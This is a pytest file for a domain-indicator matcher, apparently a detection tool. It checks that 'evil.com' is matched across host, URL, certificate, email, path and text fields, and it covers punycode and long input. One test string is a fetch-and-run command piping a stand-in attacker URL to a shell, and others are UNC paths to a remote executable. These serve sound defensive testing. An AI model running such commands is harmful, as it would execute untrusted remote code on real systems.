"""A domain is found as itself and in its subdomains, on a label boundary, in every field that holds a host name."""

from __future__ import annotations

import pytest
from tests.matching.kit import found

SEEN = [
    ("host", "evil.com"),
    ("host", "a.b.evil.com"),
    ("host", "EVIL.Com."),
    ("host", "evil.com:8443"),
    ("host", "*.evil.com"),
    ("host", "www.evil.com,b.example,192.0.2.1"),
    ("host", "b.example;evil.com"),
    ("host", "TXT 20 v=spf1 include:evil.com ~all"),
    ("address", "evil.com"),
    ("url", "http://evil.com"),
    ("url", "https://user:secret@www.evil.com:8080/a b?q"),
    ("url", "evil.com:443"),
    ("url", "evil.com/x"),
    ("url", "GET http://evil.com/ HTTP/1.1"),
    ("certificate", "CN=evil.com,O=x"),
    ("certificate", "CN=*.evil.com"),
    ("email", "Bob <bob@evil.com>"),
    ("email", "bob@mail.evil.com"),
    ("email", "evil.com"),
    ("path", r"\\evil.com@SSL\DavWWWRoot\x.exe"),
    ("path", r"\\www.evil.com\share\x.exe"),
    ("text", "say evil.com."),
    ("text", "„evil.com“ – and more"),
    ("text", "evil.com…"),
    ("text", "-evil.com"),
    ("text", "evil.com-"),
    ("text", "CN=*.evil.com, O=x"),
    ("text", "Set-Cookie: domain=.evil.com"),
    ("text", "bob@evil.com"),
    ("text", "http://evil.com:80/x"),
    ("text", "(evil.com)"),
    ("text", "curl -s http://sub.EVIL.com/x | sh"),
]
NOT_SEEN = [
    *[
        (kind, name)
        for kind in ("host", "text", "certificate")
        for name in (
            "notevil.com",
            "evil.com.example.org",
            "22612evil.com",
            "x-evil.com",
            "evil.com-foo",
            "evil.community",
            "evil_evil.com",
            "éevil.com",
            "evilcom",
            "com",
        )
    ],
    ("url", "http://good.example/evil.com"),
    ("url", "http://notevil.com/"),
    ("email", "bob@evil.com.example.org"),
    ("email", "evil.com@good.example"),
    ("path", r"C:\evil.com"),
    ("hash", "evil.com"),
    ("registry", r"HKLM\Software\evil.com"),
]


@pytest.mark.parametrize(("field", "text"), SEEN)
def test_a_domain_is_found(field, text):
    assert found("domain", "evil.com", field, text)


@pytest.mark.parametrize(("field", "text"), NOT_SEEN)
def test_another_word_is_not_the_domain(field, text):
    assert not found("domain", "evil.com", field, text)


@pytest.mark.parametrize("indicator", ["xn--bcher-kva.example", "bücher.example"])
@pytest.mark.parametrize(
    ("field", "text"),
    [
        ("host", "www.xn--bcher-kva.example"),
        ("host", "XN--BCHER-KVA.example."),
        ("host", "bücher.example"),
        ("host", "BÜCHER.example"),
        ("text", "see www.bücher.example!"),
        ("url", "http://bücher.example/x"),
        ("email", "a@bücher.example"),
    ],
)
def test_names_beyond_ascii_are_the_same_in_punycode(indicator, field, text):
    assert found("domain", indicator, field, text)


def test_letters_are_folded_in_ascii_only():
    """The Kelvin sign is no k: a record could else match without the literal that the sieve looks for."""
    assert not found("domain", "kevil.com", "host", "\u212aevil.com")


def test_very_long_names_are_looked_up_by_their_end_in_reasonable_time():
    assert found("domain", "evil.com", "text", "a." * 200_000 + "evil.com")
    assert not found("domain", "evil.com", "text", "ж" * 200_000 + ".example")
